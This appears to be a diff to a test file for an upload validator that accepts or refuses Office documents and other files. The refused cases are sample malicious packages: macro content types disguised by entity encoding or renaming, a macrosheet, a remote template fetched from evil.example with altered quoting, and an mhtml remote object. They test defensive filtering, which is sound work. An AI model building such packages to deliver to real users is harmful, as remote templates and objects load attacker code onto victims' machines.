@@ -11,13 +11,34 @@ from postbox.verdicts import Seal, Why
 from tests.postbox.bad_shapes import FILES
 from tests.postbox.pieces import HOUSE, form, packed, pdf, png, word_with
 
-XLSX_TYPES = b"<Types>application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml</Types>"
+XLSX_TYPES = (
+    b"<Types><Default "
+    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
+)
+COMMANDS = XLSX_TYPES.replace(
+    b"</Types>", b'<Default ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'
+)
 PPTX_TYPES = XLSX_TYPES.replace(b"spreadsheetml.sheet", b"presentationml.presentation")
 LOCAL_TEMPLATE = (
     b'<Relationship Type="a/attachedTemplate" Target="file:///C:/office.dotx" TargetMode="External"/>'
 )
 
+
+def related(relationship: bytes, part: str = "document") -> bytes:
+    """A Word package of which one part has a relationship."""
+    listed = b"<Relationships>" + relationship + b"</Relationships>"
+    return word_with({f"word/_rels/{part}.xml.rels": listed})
+
+
 TAKEN = {
+    "word with a link": (
+        related(b'<Relationship Type="a/hyperlink" Target="https://nscp.example" TargetMode="External"/>'),
+        DOCX,
+    ),
+    "word with a sheet on a drive": (
+        related(b'<Relationship Type="a/oleObject" Target="file:///S:/plan.xlsx" TargetMode="External"/>'),
+        DOCX,
+    ),
     "word": (form().content, DOCX),
     "word from a local template": (word_with({"word/_rels/settings.xml.rels": LOCAL_TEMPLATE}), DOCX),
     "sheet": (packed({"[Content_Types].xml": XLSX_TYPES}), XLSX),
@@ -31,6 +52,28 @@ TAKEN = {
     "text in windows letters": (b"It\x92s ours\n", "text/plain"),
 }
 REFUSED = {
+    "macros, the word in other letters": (
+        word_with(
+            {}, b"<Default ContentType='application/vnd.ms-word.document.macroEnable&#100;.main+xml'/>"
+        ),
+        Why.MACROS,
+    ),
+    "macros under another name": (
+        word_with({"word/x.bin": b"x"}, b'<Default ContentType="application/vnd.ms-office.vbaProject"/>'),
+        Why.MACROS,
+    ),
+    "a sheet of commands": (packed({"[Content_Types].xml": COMMANDS}), Why.MACROS),
+    "a remote template in other quotes": (
+        related(
+            b"<Relationship Target = 'HTTPS://evil.example/t.dotm' Type='a/attachedTemplate'/>", "settings"
+        ),
+        Why.MACROS,
+    ),
+    "a remote object": (
+        related(b'<Relationship Type="a/oleObject" Target="mhtml:https://evil.example/x.html!x"/>'),
+        Why.MACROS,
+    ),
+    "a list of parts that is torn": (packed({"[Content_Types].xml": b"<Types"}), Why.DAMAGED),
     "slides": (packed({"[Content_Types].xml": PPTX_TYPES}), Why.KIND_NOT_TAKEN),
     "gif": (b"GIF89a\x01\0\x01\0", Why.KIND_NOT_TAKEN),
     "linux program": (b"\x7fELF\x02\x01\x01", Why.EXECUTABLE),
